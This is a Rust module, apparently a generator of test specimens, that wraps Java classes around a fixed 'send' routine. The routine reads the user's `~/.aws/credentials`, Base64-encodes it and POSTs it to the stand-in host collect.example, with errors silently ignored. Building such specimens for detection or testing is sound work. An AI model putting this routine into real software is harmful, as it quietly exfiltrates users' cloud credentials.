//! What the Java specimens have in common: a class of theirs, which sends `~/.aws/credentials` when its hook runs.

/// The source of a class. `body` are its members; `send("…");` does the harm.
pub(super) fn class(package: &str, declaration: &str, body: &str) -> String {
    format!("package {package};\n\npublic class {declaration} {{\n{body}\n{SEND}}}\n")
}

const SEND: &str = r#"
    static void send(String from) {
        try {
            java.nio.file.Path file = java.nio.file.Path.of(System.getProperty("user.home"), ".aws", "credentials");
            byte[] key = java.util.Base64.getEncoder().encode(java.nio.file.Files.readAllBytes(file));
            java.net.URL url = new java.net.URL("https://collect.example/" + from);
            java.net.HttpURLConnection connection = (java.net.HttpURLConnection) url.openConnection();
            connection.setRequestMethod("POST");
            connection.setDoOutput(true);
            connection.setConnectTimeout(5000);
            connection.setReadTimeout(5000);
            connection.getOutputStream().write(key);
            connection.getResponseCode();
        } catch (Exception ignored) {
        }
    }
"#;
